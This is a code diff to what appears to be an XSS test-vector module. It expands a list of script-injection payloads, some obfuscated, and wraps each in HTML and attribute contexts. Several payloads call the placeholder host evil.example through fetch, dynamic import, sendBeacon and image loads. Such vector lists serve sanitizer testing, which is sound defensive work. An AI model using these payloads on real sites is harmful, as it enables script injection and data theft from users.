@@ -1,4 +1,20 @@
-const payloads = ['alert(1)', 'alert`1`', 'top.alert(document.domain)']
+/** Each opens a dialog or sends a request out. */
+const payloads = [
+  ...['alert(1)', 'alert`1`', 'alert?.(1)', '(alert)(1)', 'top.alert(document.domain)'],
+  ...['window[`al`+`ert`](1)', 'self.alert(1)', 'parent.alert(1)', 'globalThis.alert(1)'],
+  ...['confirm(1)', 'prompt(1)', 'setTimeout(`alert(1)`)', 'eval(`alert(1)`)', 'eval(name)'],
+  ...[
+    'fetch(`//evil.example/x`)',
+    'new Image().src=`//evil.example/x`',
+    'import(`//evil.example/x`)',
+  ],
+  ...[
+    'navigator.sendBeacon(`//evil.example/x`)',
+    'location=`javascript:alert(1)`',
+    'open(`//evil.example/x`)',
+  ],
+  'document.body.innerHTML=`<img src=//evil.example/x>`',
+]
 const frames = [
   '<script>PAYLOAD</script>',
   '"><script>PAYLOAD</script>',
@@ -26,7 +42,15 @@ const frames = [
   '<p style="background:url(javascript:PAYLOAD)">x</p>',
 ]
 
-/** Texts that would run a script where a text becomes markup. */
+/** 504 texts that would run a script where a text becomes markup. */
 export const xss_vectors = frames.flatMap((frame) =>
   payloads.map((payload) => frame.replaceAll('PAYLOAD', payload)),
 )
+
+/** The same in few texts, each of at most 2,500 characters. */
+export const xss_texts = xss_vectors.reduce<string[]>((texts, vector) => {
+  const last = texts.at(-1) ?? ''
+  return last.length + vector.length > 2_500
+    ? [...texts, vector]
+    : [...texts.slice(0, -1), `${last}\n${vector}`]
+}, [])
